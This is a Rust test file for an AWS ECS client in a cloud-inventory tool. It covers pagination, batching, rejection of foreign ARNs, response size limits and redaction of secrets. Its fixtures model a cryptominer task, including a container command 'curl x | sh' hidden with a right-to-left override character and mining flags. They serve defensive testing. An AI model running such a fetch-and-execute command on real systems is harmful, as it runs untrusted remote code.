//! Pages, batches and what is believed of them.

use std::time::Duration;

use quench_core::cloud_error::CloudErrorKind as Kind;
use quench_core::region::RegionCode;
use quench_core::report::PartState;
use quench_core::resource::{ContainerOverride, DefinitionStatus};
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;

use crate::canned::{Answer, Canned, ok, refused};
use crate::{DesiredStatus, RegionClient};

const CLUSTER: &str = "arn:aws:ecs:eu-west-1:123456789012:cluster/prod";

fn arn(rest: &str) -> String {
    format!("arn:aws:ecs:eu-west-1:123456789012:{rest}")
}

async fn region(canned: &Canned) -> RegionClient {
    canned.connected().await.region(&RegionCode::parse("eu-west-1").unwrap())
}

/// Answers `list` with pages of 100 out of `all`, numbered by their tokens.
fn page(request: &Value, list: &str, all: &[String]) -> Answer {
    assert_eq!(request["maxResults"], 100);
    let from: usize = request["nextToken"].as_str().map_or(0, |token| token.parse().unwrap());
    let to = (from + 100).min(all.len());
    let next = (to < all.len()).then(|| to.to_string());
    ok(&json!({ list: all[from..to], "nextToken": next }))
}

#[tokio::test(start_paused = true)]
async fn every_page_is_read() {
    let all: Vec<String> = (0..250).map(|number| arn(&format!("cluster/c{number}"))).collect();
    let given = all.clone();
    let canned = Canned::new(move |seen| page(&seen.json(), "clusterArns", &given));
    let listing = region(&canned).await.list_clusters(&CancellationToken::new()).await;
    assert_eq!(listing.items, all);
    assert_eq!(listing.state(), PartState::Complete);
    assert_eq!(canned.operations().len(), 3);
}

#[tokio::test(start_paused = true)]
async fn a_failure_on_page_2_keeps_page_1_and_says_why() {
    let canned = Canned::new(|seen| match seen.json()["nextToken"].as_str() {
        None => ok(&json!({ "taskArns": [arn("task/prod/0a1b")], "nextToken": "2" })),
        Some(_) => refused(400, "AccessDeniedException", "no"),
    });
    let listing = region(&canned).await.list_tasks(CLUSTER, DesiredStatus::Running, &CancellationToken::new()).await;
    assert_eq!(listing.items.len(), 1);
    let PartState::Partial(why) = listing.state() else { panic!("{:?}", listing.state()) };
    assert_eq!(why.kind, Kind::AccessDenied);
}

#[tokio::test(start_paused = true)]
async fn a_token_that_repeats_itself_ends() {
    let canned = Canned::new(|_| ok(&json!({ "clusterArns": [CLUSTER], "nextToken": "again" })));
    let listing = region(&canned).await.list_clusters(&CancellationToken::new()).await;
    assert_eq!(listing.items, [CLUSTER], "each once");
    assert_eq!(listing.missing.unwrap().kind, Kind::Unreadable);
    assert_eq!(canned.operations().len(), 2);
}

#[tokio::test(start_paused = true)]
async fn what_belongs_elsewhere_is_not_believed() {
    let canned = Canned::new(|_| {
        ok(&json!({ "taskArns": [
            arn("task/prod/good"),
            arn("task/other/cluster"),
            "arn:aws:ecs:us-east-1:123456789012:task/prod/region",
            "arn:aws:ecs:eu-west-1:999999999999:task/prod/account",
            "task",
        ] }))
    });
    let listing = region(&canned).await.list_tasks(CLUSTER, DesiredStatus::Running, &CancellationToken::new()).await;
    assert_eq!(listing.items, [arn("task/prod/good")]);
    assert_eq!(listing.missing.unwrap().kind, Kind::Unreadable);
}

#[tokio::test(start_paused = true)]
async fn batches_have_the_size_that_each_operation_takes() {
    let canned = Canned::new(|seen| {
        let request = seen.json();
        let list = |key: &str| request[key].as_array().cloned().unwrap_or_default();
        match seen.operation.as_str() {
            "DescribeServices" => {
                assert!(list("services").len() <= 10);
                assert_eq!(request["include"], json!(["TAGS"]));
                let service = |arn: &Value| json!({ "serviceArn": arn, "status": "ACTIVE" });
                ok(&json!({ "services": list("services").iter().map(service).collect::<Vec<_>>(), "failures": [] }))
            }
            _ => {
                assert!(list("tasks").len() <= 100);
                let task = |arn: &Value| json!({ "taskArn": arn, "lastStatus": "RUNNING" });
                ok(&json!({ "tasks": list("tasks").iter().map(task).collect::<Vec<_>>(), "failures": [] }))
            }
        }
    });
    let client = region(&canned).await;
    let cancel = CancellationToken::new();
    let services: Vec<String> = (0..25).map(|number| arn(&format!("service/prod/s{number}"))).collect();
    assert_eq!(client.describe_services(CLUSTER, &services, &cancel).await.items.len(), 25);
    let tasks: Vec<String> = (0..250).map(|number| arn(&format!("task/prod/{number}"))).collect();
    assert_eq!(client.describe_tasks(CLUSTER, &tasks, &cancel).await.items.len(), 250);
    let operations = canned.operations();
    assert_eq!(operations.iter().filter(|name| *name == "DescribeServices").count(), 3);
    assert_eq!(operations.iter().filter(|name| *name == "DescribeTasks").count(), 3);
    assert_eq!(client.describe_tasks(CLUSTER, &[], &cancel).await.missing, None);
    assert_eq!(canned.operations().len(), operations.len(), "nothing to describe, nothing asked");
}

#[tokio::test(start_paused = true)]
async fn missing_is_gone_and_other_failures_leave_it_incomplete() {
    let canned = Canned::new(|_| {
        ok(&json!({
            "clusters": [{ "clusterArn": CLUSTER, "clusterName": "prod", "status": "ACTIVE", "runningTasksCount": 3 }],
            "failures": [
                { "arn": arn("cluster/gone"), "reason": "MISSING" },
                { "arn": arn("cluster/odd"), "reason": "INTERNAL" },
            ],
        }))
    });
    let asked = [CLUSTER.to_owned(), arn("cluster/gone"), arn("cluster/odd")];
    let described = region(&canned).await.describe_clusters(&asked, &CancellationToken::new()).await;
    assert_eq!(described.items.len(), 1);
    assert_eq!(described.items[0].running_tasks, Some(3));
    assert_eq!(described.gone, [arn("cluster/gone")]);
    assert!(described.missing.unwrap().message.contains("INTERNAL"));
}

#[tokio::test(start_paused = true)]
async fn an_arn_that_the_answer_leaves_out_is_neither_there_nor_gone() {
    let canned = Canned::new(|_| ok(&json!({ "clusters": [], "failures": [] })));
    let described = region(&canned).await.describe_clusters(&[CLUSTER.to_owned()], &CancellationToken::new()).await;
    assert!(described.items.is_empty() && described.gone.is_empty());
    assert_eq!(described.missing.unwrap().kind, Kind::Unreadable);
}

#[tokio::test(start_paused = true)]
async fn a_task_in_all_its_forms() {
    let canned = Canned::new(|_| {
        ok(&json!({ "tasks": [{
            "taskArn": arn("task/prod/0a1b"), "taskDefinitionArn": arn("task-definition/miner:3"),
            "lastStatus": "RUNNING", "desiredStatus": "RUNNING", "cpu": "16 vCPU", "memory": "32 GB",
            "group": "service:miner", "launchType": "FARGATE", "startedBy": "ecs-svc/1\u{202e}",
            "attributes": [{ "name": "ecs.cpu-architecture", "value": "arm64" }],
            "ephemeralStorage": { "sizeInGiB": 30 }, "createdAt": 1_791_122_400.123,
            "containers": [{ "image": "yenik65958/secret:user" }],
            "overrides": { "taskRoleArn": "arn:aws:iam::123456789012:role/ecs", "containerOverrides": [
                { "name": "side" },
                { "name": "main", "command": ["sh", "-c", "curl x | sh\u{202e}"],
                  "environment": [{ "name": "WALLET", "value": "s3cret" }] } ] },
        }] }))
    });
    let described =
        region(&canned).await.describe_tasks(CLUSTER, &[arn("task/prod/0a1b")], &CancellationToken::new()).await;
    assert_eq!(described.missing, None);
    let task = &described.items[0];
    assert_eq!((task.cpu_units, task.memory_mib, task.ephemeral_gib), (Some(16384), Some(32768), Some(30)));
    assert_eq!((task.service_name(), task.architecture.as_deref()), (Some("miner"), Some("arm64")));
    assert_eq!(task.started_by.as_deref(), Some("ecs-svc/1\\u{202e}"));
    assert_eq!(task.created_at.unwrap().as_millisecond(), 1_791_122_400_123);
    assert_eq!(task.images, ["yenik65958/secret:user"]);
    let main = ContainerOverride {
        name: "main".to_owned(),
        command: ["sh", "-c", "curl x | sh\\u{202e}"].map(str::to_owned).to_vec(),
        environment_names: vec!["WALLET".to_owned()],
    };
    assert_eq!(task.overrides.containers, [main], "names of variables, never their values");
    assert_eq!(task.overrides.task_role.as_deref(), Some("arn:aws:iam::123456789012:role/ecs"));
}

#[tokio::test(start_paused = true)]
async fn a_service_tells_all_its_definitions_and_a_foreign_one_is_not_believed() {
    let canned = Canned::new(|seen| {
        let region = if seen.body.contains("/bad") { "us-east-1" } else { "eu-west-1" };
        let definition = |n| format!("arn:aws:ecs:{region}:123456789012:task-definition/api:{n}");
        ok(&json!({ "services": [{
            "serviceArn": seen.json()["services"][0], "status": "ACTIVE", "desiredCount": 10,
            "taskDefinition": definition(2), "deployments": [
                { "taskDefinition": definition(2) }, { "taskDefinition": definition(1) } ],
            "taskSets": [{ "taskSetArn": arn("task-set/prod/api/ts1"), "taskDefinition": definition(3) }],
            "deploymentController": { "type": "EXTERNAL" }, "createdBy": "arn:aws:iam::123456789012:role/x",
            "networkConfiguration": { "awsvpcConfiguration": { "subnets": ["s"], "assignPublicIp": "ENABLED" } },
        }] }))
    });
    let client = region(&canned).await;
    let cancel = CancellationToken::new();
    let described = client.describe_services(CLUSTER, &[arn("service/prod/api")], &cancel).await;
    assert_eq!(described.missing, None);
    let service = &described.items[0];
    assert_eq!(service.all_definitions.len(), 3);
    assert_eq!((service.public_ip, service.deployment_controller.as_deref()), (Some(true), Some("EXTERNAL")));
    assert_eq!(service.task_sets, [arn("task-set/prod/api/ts1")]);
    let foreign = client.describe_services(CLUSTER, &[arn("service/prod/bad")], &cancel).await;
    assert!(foreign.items.is_empty());
    assert_eq!(foreign.missing.unwrap().kind, Kind::Unreadable);
}

#[tokio::test(start_paused = true)]
async fn a_definition_keeps_names_and_drops_values() {
    let definition = arn("task-definition/miner:3");
    let canned = Canned::new(|_| {
        ok(&json!({ "taskDefinition": {
            "taskDefinitionArn": arn("task-definition/miner:3"), "family": "miner", "revision": 3, "cpu": "16384",
            "registeredAt": 1_791_122_400.0, "registeredBy": "arn:aws:iam::123456789012:user/x",
            "containerDefinitions": [{ "name": "app", "image": "a/b:c", "command": ["--algo", "randomx"],
                "environment": [{ "name": "WALLET", "value": "hunter2" }],
                "secrets": [{ "name": "POOL", "valueFrom": "arn:aws:ssm:hunter2" }],
                "logConfiguration": { "logDriver": "splunk", "options": { "splunk-token": "hunter2" } } }],
        } }))
    });
    let document =
        region(&canned).await.describe_task_definition(&definition, &CancellationToken::new()).await.unwrap();
    assert!(!document.to_string().contains("hunter2"), "{document}");
    assert_eq!(document["containers"][0]["environmentNames"], json!(["WALLET"]));
    assert_eq!(document["containers"][0]["logConfiguration"]["options"], json!(["splunk-token"]));
    assert_eq!(document["registeredAt"], "2026-10-04T14:00:00Z");
}

/// Futures of reads must be fit for `tokio::spawn`.
#[tokio::test(start_paused = true)]
async fn reads_can_be_spawned_and_run_side_by_side() {
    let canned = Canned::new(|seen| match seen.operation.as_str() {
        "ListTaskDefinitions" => {
            let body = json!({ "taskDefinitionArns": [arn("task-definition/api:1")] }).to_string();
            let answer = crate::canned::response(200, "application/x-amz-json-1.1", body);
            Answer::Late(Duration::from_secs(1), answer)
        }
        "ListServices" => ok(&json!({ "serviceArns": [] })),
        "DescribeServices" => ok(&json!({ "services": [] })),
        "ListContainerInstances" => ok(&json!({ "containerInstanceArns": [arn("container-instance/prod/i1")] })),
        "DescribeContainerInstances" => ok(&json!({ "containerInstances": [
            { "containerInstanceArn": arn("container-instance/prod/i1"), "status": "ACTIVE", "ec2InstanceId": "i-1" }
        ] })),
        "ListDaemons" => ok(&json!({ "daemonSummariesList": [{ "daemonArn": arn("daemon/prod/agent") }] })),
        "ListGateways" => ok(&json!({ "gateways": [{ "gatewayArn": arn("gateway/g1") }] })),
        other => panic!("{other}"),
    });
    let client = region(&canned).await;
    let job = tokio::spawn(async move {
        let cancel = CancellationToken::new();
        let instances = client.list_container_instances(CLUSTER, &cancel).await;
        let instances = client.describe_container_instances(CLUSTER, &instances.items, &cancel).await;
        assert_eq!(instances.items[0].ec2_instance.as_deref(), Some("i-1"));
        assert!(client.list_services(CLUSTER, &cancel).await.missing.is_none());
        let lost = client.describe_services(CLUSTER, &[arn("service/prod/x")], &cancel).await;
        assert!(lost.missing.is_some());
        assert_eq!(client.list_daemons(CLUSTER, &cancel).await.items.len(), 1);
        assert_eq!(client.list_gateways(&cancel).await.items.len(), 1);
        let all = [DefinitionStatus::Active, DefinitionStatus::Inactive, DefinitionStatus::DeleteInProgress];
        let before = client.line().caller.clock.monotonic();
        let lists = all.map(|status| client.list_task_definitions(status, &cancel));
        let lists = futures::future::join_all(lists).await;
        assert_eq!((client.line().caller.clock.monotonic() - before).as_secs(), 1);
        lists.into_iter().map(|list| list.items.len()).sum::<usize>()
    });
    assert_eq!(job.await.unwrap(), 3);
}

/// A stand-in, a proxy or a broken service may send without end: it is read up to a limit, and then is a part not read.
#[tokio::test(start_paused = true)]
async fn an_answer_without_end_is_a_part_not_read() {
    let taken = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = std::sync::Arc::clone(&taken);
    let canned = Canned::new(move |_| Answer::Endless(std::sync::Arc::clone(&counter)));
    let client = region(&canned).await;
    let cancel = CancellationToken::new();
    let listing = client.list_clusters(&cancel).await;
    assert_eq!(listing.missing.unwrap().kind, Kind::Unreadable);
    let described = client.describe_tasks(CLUSTER, &[arn("task/prod/0a1b")], &cancel).await;
    assert_eq!(described.missing.unwrap().kind, Kind::Unreadable);
    let taken = taken.load(std::sync::atomic::Ordering::Relaxed);
    assert!(taken <= 2 * (crate::capped::LIMIT + 64 * 1024), "{taken} bytes for two answers");
}

/// The SDK reads a count that is not there as 0, and "no machines" must not be believed of an answer without counts.
#[tokio::test(start_paused = true)]
async fn counts_that_are_left_out_are_not_zero() {
    for (counts, machines) in [
        (json!({}), None),
        (json!({ "runningTasksCount": 3, "registeredContainerInstancesCount": 0 }), Some(0)),
        (json!({ "registeredContainerInstancesCount": 2 }), Some(2)),
    ] {
        let canned = Canned::new(move |_| {
            let mut cluster = json!({ "clusterArn": CLUSTER, "clusterName": "prod", "status": "ACTIVE" });
            cluster.as_object_mut().unwrap().extend(counts.as_object().unwrap().clone());
            ok(&json!({ "clusters": [cluster] }))
        });
        let described = region(&canned).await.describe_clusters(&[CLUSTER.to_owned()], &CancellationToken::new()).await;
        assert_eq!(described.items[0].registered_container_instances, machines);
    }
}
